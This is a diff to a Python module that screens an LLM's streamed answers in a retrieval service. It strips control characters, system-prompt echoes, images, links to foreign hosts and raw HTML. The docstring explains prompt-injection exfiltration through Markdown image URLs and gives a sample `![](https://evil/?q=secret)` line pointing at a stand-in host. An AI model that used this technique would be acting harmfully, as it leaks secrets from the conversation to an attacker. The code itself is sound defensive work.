@@ -1,21 +1,25 @@
 """What an answer must not carry to its reader, whatever a hostile document made the LLM write.
 
-The prompt asks the model to treat sources as data; this module makes two outcomes hold even
+The prompt asks the model to treat sources as data; this module makes these outcomes hold even
 when it does not:
 
+- no terminal control characters (domain/text.py's `without_controls`, per character, so an escape
+  sequence split across two batches cannot be put back together);
 - the system prompt is not repeated: a run of `ECHO_WORDS` or more of its words, in its order
   (case and punctuation aside), becomes `REDACTED`;
-- nothing in the answer fetches or links to a host that no source comes from (the way a
-  document's injected text exfiltrates what the model knows: `![](https://evil/?q=secret)` is
-  fetched by any Markdown renderer as it draws the answer). Markdown images and links, inline,
-  `<autolinks>` and reference definitions, keep their URL only if it is http(s) on the host of
-  a source's own location; otherwise a link keeps its text, an image its alt text, and an
-  autolink or a definition goes.
+- nothing in the answer fetches anything, or links to a host that no source comes from (the
+  way a document's injected text exfiltrates what the model knows: `![](https://evil/?q=secret)`
+  is fetched by any Markdown renderer as it draws the answer). An image is its alt text
+  whatever its host: a source's location is whatever its uploader wrote, so its host earns no
+  trust to be fetched from. Markdown links, inline, `<autolinks>` and reference definitions,
+  keep their URL only if it is http(s) on the host of a source's own location (the reader
+  chooses to follow it); otherwise a link keeps its text, and an autolink or a definition goes;
+- no raw HTML (llm/raw_html.py).
 
-Both run on the stream (the answer job's coalesced batches), so that every `token` event, the
+All run on the stream (the answer job's coalesced batches), so that every `token` event, the
 `done` answer and /job-status carry the same clean text. Each holds back only the tail that may
-still turn out to be an echo or a link (usually nothing, at most a paragraph), so each batch
-costs one scan of itself and of that tail.
+still turn out to be an echo, a link or a tag (usually nothing, at most a paragraph), so each
+batch costs one scan of itself and of that tail.
 """
 
 from __future__ import annotations
@@ -27,20 +31,23 @@ from dataclasses import dataclass
 from urllib.parse import urlsplit
 
 from rag_async.domain.sources import Source
+from rag_async.domain.text import without_controls
 from rag_async.providers.llm.prompt import SYSTEM_PROMPT
+from rag_async.providers.llm.raw_html import HtmlGuard
 
 ECHO_WORDS = 10  # shorter runs occur in honest answers ("could not find it in the documents")
 REDACTED = "[redacted]"
 
 
 async def screen(batches: AsyncIterator[str], sources: Sequence[Source]) -> AsyncIterator[str]:
-    """The answer's batches with echoes of the system prompt redacted and links to foreign
-    hosts stripped; text held back goes out with a later batch, or at the end."""
-    echo, links = EchoGuard(SYSTEM_PROMPT), LinkGuard(source_hosts(sources))
+    """The answer's batches without control characters, echoes of the system prompt, images,
+    links to foreign hosts or raw HTML; text held back goes out with a later batch, or at the
+    end."""
+    echo, links, tags = EchoGuard(SYSTEM_PROMPT), LinkGuard(source_hosts(sources)), HtmlGuard()
     async for batch in batches:
-        if text := links.feed(echo.feed(batch)):
+        if text := tags.feed(links.feed(echo.feed(without_controls(batch)))):
             yield text
-    if text := links.feed(echo.feed("", final=True), final=True):
+    if text := tags.feed(links.feed(echo.feed("", final=True), final=True), final=True):
         yield text
 
 
@@ -211,8 +218,8 @@ def _link_at(text: str, start: int, hosts: frozenset[str], final: bool) -> tuple
         if url is None:
             return None  # "[1](page 3)" is text
         label = _unlinked(text[opening + 1 : close], hosts, final=True)[0]
-        if _allowed(url, hosts):
-            return f"{text[start:opening]}[{label}]{text[close + 1 : end + 1]}", end + 1
+        if not image and _allowed(url, hosts):
+            return f"[{label}]{text[close + 1 : end + 1]}", end + 1
         return label, end + 1
     if text[close + 1] == ":" and not image and _starts_line(text, start):  # a definition
         end = text.find("\n", close)
